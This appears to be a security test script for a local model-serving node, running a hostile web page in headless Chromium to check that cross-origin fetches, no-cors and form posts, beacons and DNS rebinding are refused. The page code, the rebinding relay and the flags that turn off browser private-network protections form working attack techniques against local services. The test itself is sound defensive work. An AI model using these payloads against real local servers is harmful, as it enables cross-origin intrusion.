#!/usr/bin/env python3
"""Web pages against a node: browser.py [--chromium PATH].

brambled serves the demo model on loopback without a key, as by default. A page of another origin, opened in a real
headless browser, tries everything that pages can do: fetch with and without no-cors, form posts, text/plain, beacons,
images, and DNS rebinding (the browser resolves evil.example to the node's address, as an attacker's name server would).
Each attempt must get 403 (415 if the browser sends no origin), no page may read an answer, and the node must have
computed no token. Then the same for a page that the settings allow, which must get its text. Installs nothing: without
a browser it prints SKIPPED.

cargo build --release --locked --workspace
"""
import argparse
import contextlib
import functools
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "python"))
import bramble

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
# Time limit in seconds for a page to try everything.
PATIENCE = 120
BODY = json.dumps({"prompt": "ROMEO:", "max_tokens": 8, "temperature": 0})

# Each attempt records the result that the page sees; the last request is the report.
PAGE = """<!doctype html><meta charset=utf-8><title>page</title>
<iframe name=sink></iframe>
<script>
const node = NODE, same = SAME, body = BODY, seen = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    seen[name] = {type: answer.type, status: answer.status, text: answer.type === "opaque" ? "" : await answer.text()};
  } catch (error) { seen[name] = {type: "error", status: 0, text: ""}; }
}
function form(enctype) {
  return new Promise(done => {
    const form = document.createElement("form");
    Object.assign(form, {action: node + "/v1/completions", method: "post", enctype, target: "sink"});
    const field = document.createElement("input");
    [field.name, field.value] = ['{"prompt":"ROMEO:","max_tokens":8,"x":"', '"}'];
    form.append(field); document.body.append(form);
    document.querySelector("iframe").onload = () => done();
    form.submit(); setTimeout(done, 5000);
  });
}
async function run() {
  const path = "/v1/completions", json = {"Content-Type": "application/json"}, text = {"Content-Type": "text/plain"};
  if (same) {
    await attempt("rebound post", path, {method: "POST", headers: json, body});
    await attempt("rebound traces", "/traces");
    await attempt("rebound metrics", "/metrics");
  } else {
    await attempt("cors json", node + path, {method: "POST", headers: json, body});
    await attempt("cors text", node + path, {method: "POST", headers: text, body});
    await attempt("no-cors text", node + path, {method: "POST", mode: "no-cors", headers: text, body});
    await attempt("no-cors untyped", node + path, {method: "POST", mode: "no-cors", body: new Blob([body])});
    await attempt("cors get", node + "/traces");
    await attempt("no-cors get", node + "/metrics", {mode: "no-cors"});
    navigator.sendBeacon(node + path, new Blob([body], {type: "text/plain"}));
    await new Promise(done => { const image = new Image(); image.onload = image.onerror = done; image.src = node + "/v1/models"; });
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) await form(kind);
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
}
addEventListener("load", run);
</script>"""


class Attacker(http.server.BaseHTTPRequestHandler):
    """Serves the page and receives its report."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.page.encode())

    def do_POST(self):
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.reported.set()

    def log_message(self, *_):
        pass


def attacker(host, port):
    server = http.server.ThreadingHTTPServer((host, port), Attacker)
    server.reported, server.report = threading.Event(), None
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def visit(browser, url, server, page, rebound="127.0.0.1"):
    """Opens the page and returns its report; rebound.example resolves to `rebound`."""
    server.page, server.report = page, None
    server.reported.clear()
    # A dying browser may still write into its profile while that is deleted.
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        rules = f"MAP evil.example 127.0.0.1, MAP rebound.example {rebound}"
        # The browser is made as permissive as possible: only the node defends itself.
        command = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
        command += ["--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks"]
        command += [f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", "--remote-debugging-port=0", url]
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            if not server.reported.wait(PATIENCE):
                sys.exit(f"the page at {url} did not report within {PATIENCE} s")
        finally:
            process.terminate()
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
            # Its helpers outlive it.
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
    return server.report


def metrics(node):
    """Values of /metrics by name and labels."""
    with urllib.request.urlopen(node + "/metrics", timeout=30) as answer:
        lines = [line for line in answer.read().decode().splitlines() if not line.startswith("#")]
    return {name: float(value) for name, value in (line.rsplit(" ", 1) for line in lines)}


def counts(before, after):
    """Number of responses by path and status between two readings."""
    requests = {name: value - before.get(name, 0) for name, value in after.items() if name.startswith("bramble_requests_total")}
    return {name: int(value) for name, value in requests.items() if value}


def serving(cluster, name, address, settings):
    """Starts a node that serves the demo model; returns its URL."""
    cluster.add(name, address, settings=settings)
    command = [bramble.program("console"), "generate", "--nodes", address, "--topology", "tp1", "--model", "bard-q8_0.gguf"]
    subprocess.run([*command, "--prompt", "ROMEO:", "--max-tokens", "1"], check=True, stdout=subprocess.DEVNULL, timeout=bramble.PATIENCE)
    node = "http://" + address.replace(":9999", ":9980")
    deadline = time.monotonic() + 60
    while True:
        try:
            urllib.request.urlopen(node + "/health", timeout=5).close()
            return node
        except OSError as error:
            if time.monotonic() > deadline:
                sys.exit(f"{node} does not serve: {error}")
            time.sleep(0.05)


def page(node, report, same=False):
    values = {"NODE": node, "SAME": same, "BODY": BODY, "REPORT": report}
    return functools.reduce(lambda text, pair: text.replace(pair[0], json.dumps(pair[1]), 1), values.items(), PAGE)


def check(what, is_so, detail):
    print(f"{'ok  ' if is_so else 'FAIL'} {what}: {detail}")
    return is_so


class Relay:
    """DNS rebinding: a name resolves to the attacker's server while its page is loaded, and to the node from then on.
    Here one address answers the first request with the page and relays all further connections to the node unchanged.
    """

    def __init__(self, host, node, text):
        self.host, self.text = host, text
        address, port = node.removeprefix("http://").split(":")
        self.node, self.listener = (address, int(port)), socket.create_server((host, 9980))
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            client, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    def serve(self, client):
        with client:
            client.settimeout(PATIENCE)
            try:
                head = client.recv(65536)
                if not head or head.startswith((b"GET / ", b"GET /favicon")):
                    body = self.text.encode()
                    begin = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
                    client.sendall(begin % len(body) + body)
                    return
                with socket.create_connection(self.node) as node:
                    node.sendall(head)
                    # Requests of the page are short: head and body arrive in one or two pieces.
                    client.settimeout(0.2)
                    try:
                        node.sendall(client.recv(65536))
                    except TimeoutError:
                        pass
                    node.settimeout(2)
                    while part := node.recv(65536):
                        client.sendall(part)
            except OSError:
                # The browser is gone, or the node has closed the connection.
                pass


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--chromium", default=next(filter(None, map(shutil.which, BROWSERS)), None))
    options = parser.parse_args()
    if not options.chromium:
        print("SKIPPED: no browser (apt-get install chromium)")
        return 0
    bramble.end_on_signals()
    closed, opened, relay = bramble.loopback(3)
    with bramble.Cluster(os.path.join(bramble.ROOT, "packaging", "demo")) as cluster:
        server = attacker("127.0.0.1", 0)
        port = server.server_address[1]
        origin = f"http://evil.example:{port}"
        node = serving(cluster, "closed", closed, "")
        before = metrics(node)
        seen = visit(options.chromium, origin, server, page(node, origin))
        after = metrics(node)
        found = counts(before, after)
        answered = {name: count for name, count in found.items() if 'code="403"' not in name and '"/metrics"' not in name}
        refused = sum(count for name, count in found.items() if 'code="403"' in name)
        good = check("a page of another origin gets 403", refused >= 11 and not answered, f"{refused} refused, others {answered}")
        readable = {name: answer for name, answer in seen.items() if answer["text"] or answer["status"]}
        good &= check("it reads nothing", len(seen) == 6 and not readable, json.dumps(readable or sorted(seen)))

        relay = Relay(relay.split(":")[0], node, page(node, origin, same=True))
        before = metrics(node)
        seen = visit(options.chromium, "http://rebound.example:9980/", server, "", relay.host)
        found = counts(before, metrics(node))
        texts = " ".join(answer["text"] for answer in seen.values())
        refused = [answer["status"] for answer in seen.values()]
        good &= check("DNS rebinding gets 403", refused == [403] * 3 and "bramble_" not in texts, f"{refused}, {found}")
        names = ("bramble_prompt_tokens_total", "bramble_sampled_tokens_total")
        tokens = {name: metrics(node)[name] for name in names}
        good &= check("no token was computed", not any(tokens.values()), tokens)

        node = serving(cluster, "opened", opened, f'http_origins = ["{origin}"]\n')
        seen = visit(options.chromium, origin, server, page(node, origin))
        text = seen["cors json"]
        good &= check("an allowed page gets its text", text["status"] == 200 and "choices" in text["text"], text["status"])
        good &= check("but only if declared as JSON", seen["cors text"]["status"] == 415, seen["cors text"]["status"])
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
